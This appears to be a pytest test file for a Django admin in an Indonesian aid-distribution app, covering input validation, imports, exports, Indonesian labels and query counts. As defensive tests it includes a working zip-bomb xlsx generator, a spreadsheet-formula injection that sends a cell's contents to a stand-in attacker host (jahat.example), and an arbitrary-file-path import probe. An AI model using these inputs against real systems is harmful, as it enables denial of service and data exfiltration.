"""The 400 middleware, and the admin held to the app's rules: lookups, imports, exports."""

import io
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext

from disbursements.models import Item, Vendor
from monitoring.models import MinimumWage
from regions.models import Province


@pytest.mark.parametrize("query", [{"kabupaten": "\x00"}, {"kabupaten": "9" * 5000}, {"page": str(2**63)},
                                   {"x\x00": "1"}, {"tahun": "-" + "1" * 20}])
def test_a_nul_byte_or_a_number_past_bigint_in_a_query_gets_the_indonesian_400(client, users, query):
    client.force_login(users["officer"])

    response = client.get("/calon/unggah/", query)

    assert response.status_code == 400
    assert "Permintaan tidak sah" in response.content.decode()


def test_a_nul_byte_in_a_posted_field_name_or_value_gets_the_400(client, users):
    client.force_login(users["provincial"])

    assert client.post("/akun/tahun/", {"tahun": "2025\x00", "next": "/"}).status_code == 400
    assert client.post("/akun/tahun/", {"tahun\x00": "2025"}).status_code == 400


def test_the_largest_bigint_and_a_nik_pass_the_middleware(client, users):
    client.force_login(users["provincial"])

    assert client.get("/", {"page": str(2**63 - 1), "q": "6472014703850002"}).status_code == 200


def test_the_admin_refuses_a_pattern_lookup_and_an_unlisted_field_with_a_400(client, users):
    client.force_login(users["admin"])

    assert client.get("/admin/recipients/person/", {"nik__regex": "("}).status_code == 400
    assert client.get("/admin/recipients/person/", {"nik__startswith": "6472"}).status_code == 400
    assert client.get("/admin/recipients/person/", {"nik": "6472014703850002"}).status_code == 400
    assert client.get("/admin/recipients/person/", {"sex__exact": "P"}).status_code == 200


def test_a_year_no_date_can_hold_in_an_admin_date_filter_answers_400(client, users):
    client.force_login(users["admin"])

    response = client.get("/admin/monitoring/visit/", {"due_on__year": "99999"})

    assert response.status_code == 400 and "Permintaan tidak sah" in response.content.decode()
    assert client.get("/admin/monitoring/visit/", {"e": "1"}).status_code == 400


def test_the_audit_events_show_counts_link_answers(client, users):
    client.force_login(users["admin"])

    assert client.get("/admin/pghistory/events/", {"_facets": "True"}).status_code == 200


# ------------------------------------------------------------------ imports
def xlsx(rows) -> bytes:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def zip_bomb_xlsx() -> bytes:
    """Under 300 KB on disk; its sheet inflates to about 80 MB of cells."""
    row = "".join(f'<c r="{col}1"><v>1</v></c>' for col in "ABCDEFGHIJ")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        source = zipfile.ZipFile(io.BytesIO(xlsx([["code", "name"]])))
        for info in source.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                archive.writestr(info.filename, source.read(info.filename))
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/'
                        b'spreadsheetml/2006/main"><sheetData>')
            chunk = ("<row>" + row + "</row>").encode() * 10_000
            for _ in range(30):
                sheet.write(chunk)
            sheet.write(b"</sheetData></worksheet>")
    return out.getvalue()


def import_page(client, url, data: bytes, name="data.xlsx", fmt="0"):
    return client.post(url, {"format": fmt, "import_file": SimpleUploadedFile(name, data)})


def test_a_zip_bomb_xlsx_is_refused_in_the_admin_import_in_under_a_second(client, users):
    client.force_login(users["admin"])
    bomb = zip_bomb_xlsx()
    assert len(bomb) < 300_000

    started = time.monotonic()
    response = import_page(client, "/admin/disbursements/item/import/", bomb)

    assert time.monotonic() - started < 1.0
    assert response.status_code == 200
    assert "zip bomb" in response.content.decode()
    assert not Item.objects.exists()


def test_an_admin_import_over_the_row_limit_is_refused(client, users, settings):
    settings.ADMIN_IMPORT_MAX_ROWS = 3
    client.force_login(users["admin"])

    response = import_page(client, "/admin/disbursements/vendor/import/",
                           xlsx([["name"]] + [[f"CV {i}"] for i in range(5)]))

    assert "paling banyak 3 baris" in response.content.decode()


def test_admin_import_errors_name_the_sheet_row_the_column_and_the_value_in_indonesian(client, users, samarinda):
    client.force_login(users["admin"])
    rows = [["KODE", "TAHUN", "UMK", "NOMOR_SK", "TANGGAL_SK"],
            ["64.72", 2025, 3_500_000, "SK 1", None],
            ["99.99", 2025, 3_500_000, "SK 2", None],
            ["64.72", 2026, None, "SK 3", None]]

    page = import_page(client, "/admin/monitoring/minimumwage/import/", xlsx(rows)).content.decode()

    assert "Baris 3, kolom KODE, nilai “99.99”: tidak ditemukan" in page
    assert "Baris 4, kolom UMK" in page
    assert "Line number" not in page and "does not exist" not in page and "null value" not in page
    assert not MinimumWage.objects.exists()


def test_the_import_page_speaks_indonesian(client, users):
    client.force_login(users["admin"])

    page = client.get("/admin/disbursements/vendor/import/").content.decode()

    assert "This importer will import" not in page and "Submit" not in page
    assert "Impor" in page


def test_the_confirm_step_reads_only_a_file_the_server_named(client, users, tmp_path):
    client.force_login(users["admin"])
    victim = tmp_path / "jangan-dihapus.csv"
    victim.write_text("name\nCV Bocor\n")

    response = client.post("/admin/disbursements/vendor/process_import/",
                           {"import_file_name": str(victim), "original_file_name": "x.csv", "format": "1"})

    assert response.status_code == 400
    assert victim.exists() and not Vendor.objects.filter(name="CV Bocor").exists()


def test_a_clean_admin_import_goes_through_preview_and_confirm(client, users):
    client.force_login(users["admin"])

    preview = import_page(client, "/admin/disbursements/vendor/import/", xlsx([["Nama penyedia", "npwp"], ["CV Maju", "01.234"]]))
    confirm = preview.context["confirm_form"]

    response = client.post("/admin/disbursements/vendor/process_import/", confirm.initial)

    assert response.status_code == 302
    assert Vendor.objects.filter(name="CV Maju", npwp="01.234").exists()


# ------------------------------------------------------------------ exports
def exported_book(client, url, data=None):
    response = client.post(url, {"format": "0", **(data or {})})
    assert response.status_code == 200, response.content[:300]
    return openpyxl.load_workbook(io.BytesIO(response.content))


def test_an_admin_export_writes_a_formula_as_text_with_indonesian_sheet_and_headers(client, users):
    Vendor.objects.create(province=Province.objects.get(code="64"), name='=HYPERLINK("http://jahat.example/?"&A1,"klik")', npwp="01.234")
    client.force_login(users["admin"])

    book = exported_book(client, "/admin/disbursements/vendor/export/",
                         {"vendorresource_name": "on", "vendorresource_npwp": "on"})

    sheet = book.worksheets[0]
    assert sheet.title == "Penyedia"
    assert [c.value for c in sheet[1]][:2] == ["Nama penyedia", "NPWP"]
    cell = sheet["A2"]
    assert cell.data_type == "s" and cell.value.startswith("'=HYPERLINK")


def test_an_admin_export_writes_umk_and_year_as_numbers(client, users, samarinda):
    MinimumWage.objects.create(kabupaten=samarinda, year=2025, amount=3_579_313, decree_number="SK 1")
    client.force_login(users["admin"])

    book = exported_book(client, "/admin/monitoring/minimumwage/export/",
                         {f"minimumwageresource_{f}": "on" for f in ("kabupaten", "year", "amount", "decree_number")})

    sheet = book.worksheets[0]
    headers = [c.value for c in sheet[1]]
    row = {h: c for h, c in zip(headers, sheet[2])}
    assert row["TAHUN"].value == 2025 and row["TAHUN"].data_type == "n"
    assert row["UMK"].value == 3_579_313 and row["UMK"].data_type == "n"
    assert row["KODE"].value == "64.72"


def test_a_number_past_bigint_or_a_nul_in_a_path_segment_gets_the_400(client, users):
    client.force_login(users["provincial"])

    assert client.get(f"/kuota/tahun/{2**63}/").status_code == 400
    assert client.get("/kuota/tahun/20%0025/").status_code == 400
    assert client.get(f"/kuota/tahun/{2**63 - 1}/").status_code == 404


@pytest.mark.django_db
def test_an_admin_page_asks_the_database_a_handful_of_times_whatever_the_number_of_models(client, users):
    """The list of every model asks each ModelAdmin what the user may do; "do the regions hold several
    provinces?" was asked once per model (16 queries on the index), now once per request."""
    client.force_login(users["admin"])
    client.get("/admin/")  # content types and the like, cached after the first page
    with CaptureQueriesContext(connection) as queries:
        assert client.get("/admin/").status_code == 200
    several = [q for q in queries.captured_queries if "regions_province" in q["sql"]]
    assert len(several) <= 1 and len(queries.captured_queries) <= 6, [q["sql"][:80] for q in queries.captured_queries]


# ------------------------------------------------------------------ labels
PROJECT_APPS = ("accounts", "regions", "programmes", "audit", "recipients", "verification", "quotas", "disbursements",
                "exports", "monitoring", "fieldwork", "approvals", "papers", "public", "grievances", "notices",
                "privacy")
# Field names that are Indonesian words already: Django's label made from the name reads right.
INDONESIAN_NAMES = {"status", "desil", "kecamatan"}


def project_models():
    from django.apps import apps

    return [model for label in PROJECT_APPS for model in apps.get_app_config(label).get_models()]


def is_event_model(model) -> bool:
    import pghistory.models

    return issubclass(model, pghistory.models.Event)


def test_every_field_of_the_project_has_an_indonesian_label():
    """Without a verbose_name Django labels a field by its name ("recorded by", "check entry"), and the
    admin shows it so: in English, or as a code."""
    english = []
    for model in project_models():
        for field in model._meta.get_fields():
            if not (field.concrete or field.many_to_many) or field.auto_created or field.name == "id":
                continue  # reverse relations, the automatic id (and its copy in a history table)
            if is_event_model(model) and field.name.startswith("pgh_"):
                continue  # the history's own columns: labelled by audit/events_admin.py, tested below
            if field.name not in INDONESIAN_NAMES and str(field.verbose_name) == field.name.replace("_", " "):
                english.append(f"{model._meta.label}.{field.name}")
    assert english == [], "\n".join(english)


def admin_columns(model_admin):
    """The list's columns as (name, header), the way the admin writes the header."""
    from django.contrib.admin.utils import label_for_field

    for column in model_admin.list_display:
        if column == "__str__":
            continue
        name = column if isinstance(column, str) else column.__name__
        yield name, str(label_for_field(column, model_admin.model, model_admin))


def admin_filter_titles(model_admin):
    from django.contrib.admin.utils import get_fields_from_path

    for item in model_admin.list_filter:
        path = item[0] if isinstance(item, (list, tuple)) else item
        if isinstance(path, str):  # a filter class names its own title
            yield path, str(get_fields_from_path(model_admin.model, path)[-1].verbose_name)


def test_no_admin_list_of_the_project_heads_a_column_or_a_filter_with_a_code_name():
    """A column or filter without a label of its own is headed by its name: "GET FULL NAME", "KIND LABEL",
    "PGH OBJ ID", "Berdasarkan programme year"."""
    from django.contrib import admin
    from django.forms.utils import pretty_name

    coded = []
    for model, model_admin in admin.site._registry.items():
        if model._meta.app_label not in PROJECT_APPS:
            continue
        for name, header in [*admin_columns(model_admin), *admin_filter_titles(model_admin)]:
            last = name.split("__")[-1]
            if last not in INDONESIAN_NAMES and header in (last.replace("_", " "), pretty_name(last)):
                coded.append(f"{model._meta.label}: {name}")
    assert coded == [], "\n".join(coded)


def test_a_history_list_says_the_change_the_record_and_who_in_indonesian(client, users, samarinda, make_candidate):
    import pghistory

    from recipients.models import Candidate

    candidate = make_candidate(samarinda, created_by=users["officer"])
    with pghistory.context(user=users["officer"].pk, url="/calon/ubah/"):
        Candidate.objects.filter(pk=candidate.pk).update(notes="pindah alamat")
    client.force_login(users["admin"])

    page = client.get("/admin/recipients/candidatehistory/").content.decode()

    for header in ("Waktu", "Perubahan", "ID data", "Oleh", "Konteks"):
        assert f">{header}<" in page, header
    assert ">ubah<" in page and ">tambah<" in page and "/calon/ubah/" in page
    assert users["officer"].username in page or users["officer"].get_full_name() in page
    assert ">update<" not in page and ">insert<" not in page and "Pgh" not in page
    from django.apps import apps

    latest = apps.get_model("recipients", "CandidateHistory").objects.filter(pgh_obj_id=candidate.pk).latest("pgh_id")
    assert str(latest).startswith(f"ubah calon penerima #{candidate.pk}, ") and str(latest).endswith(" WITA")


def test_the_all_events_list_filters_in_indonesian(client, users):
    client.force_login(users["admin"])

    page = client.get("/admin/pghistory/events/").content.decode()

    assert "Berdasarkan jenis riwayat" in page and "Berdasarkan perubahan" in page
    assert "riwayat calon penerima" in page and ">ubah<" in page
    assert "event model" not in page and "recipients.CandidateHistory<" not in page


def test_the_jobs_list_names_a_kind_by_its_label(client, users):
    from exports.models import Job

    Job.objects.create(kind="monitoring.report", user=users["provincial"])
    client.force_login(users["admin"])

    page = client.get("/admin/exports/job/").content.decode()

    assert "Laporan monev" in page and "Daftar calon penerima" in page
    assert ">monitoring.report<" not in page and ">recipients.candidates<" not in page
    assert client.get("/admin/exports/job/", {"jenis": "monitoring.report"}).status_code == 200


# ------------------------------------------------------------------ names of records
def test_no_model_of_the_project_is_shown_by_its_class_name():
    """Django's own __str__ titles a page, a breadcrumb or an inline row "StockMove object (100)"."""
    from django.db.models import Model

    assert [model._meta.label for model in project_models() if model.__str__ is Model.__str__] == []


def test_a_stock_move_says_what_moved_where_and_when(users, samarinda):
    import datetime as dt

    from django.utils import timezone

    from disbursements.models import StockMove

    item = Item.objects.create(code="TEPUNG-25", name="Tepung terigu", unit="karung")
    move = StockMove.objects.create(kabupaten=samarinda, item=item, kind=StockMove.Kind.RECEIVED, quantity=1500,
                                    user=users["officer"])
    StockMove.objects.filter(pk=move.pk).update(at=dt.datetime(2026, 12, 7, 9, tzinfo=timezone.get_current_timezone()))
    move.refresh_from_db()

    assert str(move) == "Masuk 1.500 karung Tepung terigu (Kota Samarinda, 7 Des 2026)"


def test_the_candidate_timeline_in_the_admin_shows_no_raw_data(client, users, samarinda, make_candidate):
    from recipients.models import CandidateEvent

    candidate = make_candidate(samarinda, created_by=users["officer"])
    CandidateEvent.objects.create(candidate=candidate, user=users["officer"], message="Diundang bimtek",
                                  data={"training_session": 2})
    client.force_login(users["admin"])

    page = client.get(f"/admin/recipients/candidate/{candidate.pk}/change/").content.decode()

    assert "Diundang bimtek" in page
    assert "training_session" not in page and "column-data" not in page


def test_a_notice_page_is_titled_by_its_kind_and_date(client, users, samarinda):
    from django.utils import timezone

    from notices.models import Kind, Notice

    notice = Notice.objects.create(key="handover_invited:day2:c29", kind=Kind.HANDOVER_INVITED, kabupaten=samarinda,
                                   text="Undangan", not_before=timezone.now())
    client.force_login(users["admin"])

    page = client.get(f"/admin/notices/notice/{notice.pk}/change/").content.decode()

    title = page.split("<title>")[1].split("</title>")[0]
    assert "Undangan penyerahan paket, " in title and "handover_invited" not in title


def test_the_province_form_explains_the_letterhead_without_setting_names(client, users):
    client.force_login(users["admin"])

    page = client.get(f"/admin/regions/province/{Province.objects.get(code='64').pk}/change/").content.decode()

    assert "diatur di server" in page and "PAPER_" not in page


def test_the_login_throttling_pages_speak_indonesian(client, users):
    """django-axes marks these for translation and its Indonesian catalogue leaves them in English: locale/."""
    from axes.models import AccessAttempt, AccessLog

    row = {"user_agent": "Mozilla/5.0", "ip_address": "10.0.0.7", "username": "petugas", "http_accept": "*/*",
           "path_info": "/akun/masuk/"}
    AccessAttempt.objects.create(**row, get_data="", post_data="", failures_since_start=5)
    AccessLog.objects.create(**row)
    client.force_login(users["admin"])

    attempts = client.get("/admin/axes/accessattempt/").content.decode()
    logs = client.get("/admin/axes/accesslog/").content.decode()

    assert "Berdasarkan Terkunci" in attempts and "Waktu keluar" in logs
    for page in (attempts, logs):
        assert "Peramban" in page and "Alamat halaman" in page
        assert "User Agent" not in page and "Locked Out" not in page and "Path<" not in page and "Logout" not in page


# ------------------------------------------------------------------ money and counts
def test_an_admin_form_reads_money_the_indonesian_way_and_the_list_writes_it_so(client, users, samarinda):
    client.force_login(users["admin"])

    response = client.post("/admin/monitoring/minimumwage/add/", {
        "kabupaten": samarinda.pk, "year": "2025", "amount": "5.000.000", "decree_number": "SK 1"})

    assert response.status_code == 302, response.content.decode()[-2000:]
    assert MinimumWage.objects.get().amount == 5_000_000
    page = client.get("/admin/monitoring/minimumwage/").content.decode()
    assert "Rp 5.000.000" in page and ">2025<" in page and "5000000" not in page


@pytest.mark.parametrize("typed", ["5.000,5", "5,000,000", "5.00.000", "lima juta"])
def test_an_admin_form_refuses_money_that_could_mean_two_things(client, users, samarinda, typed):
    client.force_login(users["admin"])

    response = client.post("/admin/monitoring/minimumwage/add/", {
        "kabupaten": samarinda.pk, "year": "2025", "amount": typed, "decree_number": "SK 1"})

    assert response.status_code == 200 and not MinimumWage.objects.exists()
    assert "tidak jelas" in response.content.decode() or "Tulis jumlah Rupiah" in response.content.decode()


def test_a_count_typed_with_a_thousands_dot_is_a_thousand_not_one(rf, users):
    """Django's own integer field reads "1.000" as 1: a package line of a thousand items would hold one."""
    from django.contrib import admin

    from disbursements.models import PackageItem, PackageType

    request = rf.get("/admin/")
    request.user = users["admin"]
    package_admin = admin.site._registry[PackageType]
    [lines] = [inline for inline in package_admin.get_inline_instances(request) if inline.model is PackageItem]
    fields = lines.get_formset(request).form.base_fields

    assert fields["quantity"].clean("1.000") == 1000
    assert fields["unit_price"].clean("Rp 25.000") == 25_000


def test_a_budget_document_shows_its_money_formatted_in_the_list_and_on_its_page(client, users, programme_year):
    import datetime as dt

    from programmes.models import ProgrammeYear
    from quotas.models import BudgetDocument

    ProgrammeYear.objects.create(year=2026)  # a filter of one choice is not shown
    document = BudgetDocument.objects.create(programme_year=programme_year, province=Province.objects.get(code="64"),
                                             kind=BudgetDocument.Kind.PLAN, number="DPA-1", date=dt.date(2025, 1, 6),
                                             amount=5_000_000_000)
    client.force_login(users["admin"])

    listed = client.get("/admin/quotas/budgetdocument/").content.decode()
    shown = client.get(f"/admin/quotas/budgetdocument/{document.pk}/change/").content.decode()

    for page in (listed, shown):
        assert "Rp 5.000.000.000" in page and "5000000000" not in page
    assert "Berdasarkan tahun" in listed and "programme year" not in listed.lower()


def test_the_approvals_lists_name_an_act_by_its_label(client, users):
    from approvals.registry import acts

    client.force_login(users["admin"])
    act = acts()[0]

    for url in ("/admin/approvals/approval/", "/admin/approvals/foureyesswitch/"):
        page = client.get(url).content.decode()
        assert f">{act.label}<" in page and f">{act.kind}<" not in page, url


@pytest.mark.django_db
def test_an_admin_list_reads_the_keys_it_shows_with_its_rows_not_once_per_row(client, users, samarinda, make_candidate):
    """Each candidate's year (a key the list shows but its admin did not name to follow) was a query per row:
    a page of 100 candidates was 110 queries."""
    client.force_login(users["admin"])
    make_candidate(samarinda, created_by=users["officer"], name="Calon Pertama")

    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            assert client.get("/admin/recipients/candidate/").status_code == 200
        return len(captured)

    queries()  # the first request fills the caches (content types, permissions)
    one = queries()
    for n in range(10):
        make_candidate(samarinda, created_by=users["officer"], name=f"Calon {n}")
    assert queries() == one
